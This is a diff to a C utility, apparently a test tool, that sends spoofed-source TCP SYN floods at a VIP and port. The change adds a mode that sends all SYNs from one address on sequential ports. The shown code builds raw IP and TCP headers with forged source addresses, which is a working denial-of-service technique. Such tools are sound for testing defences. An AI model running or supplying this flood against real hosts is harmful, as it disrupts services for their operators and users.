@@ -2,17 +2,19 @@
 /*
  * synflood: TCP SYNs from spoofed IPv4 sources, as an attack would send
  * them: COUNT sources, FIRST, FIRST+1, ..., each one SYN to VIP:PORT from
- * a random port, never followed by the handshake's last ACK. At most PPS
- * packets a second (0: as fast as the socket takes them). Prints
- * "sent N" and exits 0 if all were sent.
+ * a random port, never followed by the handshake's last ACK. With -s, all
+ * COUNT from FIRST alone, each from another port (one client with many
+ * connections). At most PPS packets a second (0: as fast as the socket
+ * takes them). Prints "sent N" and exits 0 if all were sent.
  *
- * usage: synflood VIP PORT FIRST COUNT [PPS]
+ * usage: synflood [-s] VIP PORT FIRST COUNT [PPS]
  */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <netinet/in.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -69,12 +71,15 @@ int main(int argc, char **argv)
 	struct sockaddr_in to = { .sin_family = AF_INET };
 	struct in_addr first;
 	unsigned long count, pps = 0, sent = 0;
+	bool same = argc > 1 && !strcmp(argv[1], "-s");
 	int fd, one = 1;
 	double start;
 
+	argc -= same;
+	argv += same;
 	if (argc < 5 || argc > 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
 	    inet_pton(AF_INET, argv[3], &first) != 1) {
-		fprintf(stderr, "usage: synflood VIP PORT FIRST COUNT [PPS]\n");
+		fprintf(stderr, "usage: synflood [-s] VIP PORT FIRST COUNT [PPS]\n");
 		return 2;
 	}
 	count = strtoul(argv[4], NULL, 10);
@@ -93,9 +98,10 @@ int main(int argc, char **argv)
 				.tot_len = htons(sizeof(p)),
 				.protocol = IPPROTO_TCP,
 				.id = htons(rand()),
-				.saddr = htonl(ntohl(first.s_addr) + i),
+				.saddr = htonl(ntohl(first.s_addr) + (same ? 0 : i)),
 				.daddr = to.sin_addr.s_addr },
-			.tcp = { .source = htons(1024 + rand() % 60000),
+			.tcp = { .source = htons(same ? 1024 + (int)(i % 64000) :
+						 1024 + rand() % 60000),
 				 .dest = htons(atoi(argv[2])),
 				 .seq = htonl(rand()), .doff = 5, .syn = 1,
 				 .window = htons(64240) },
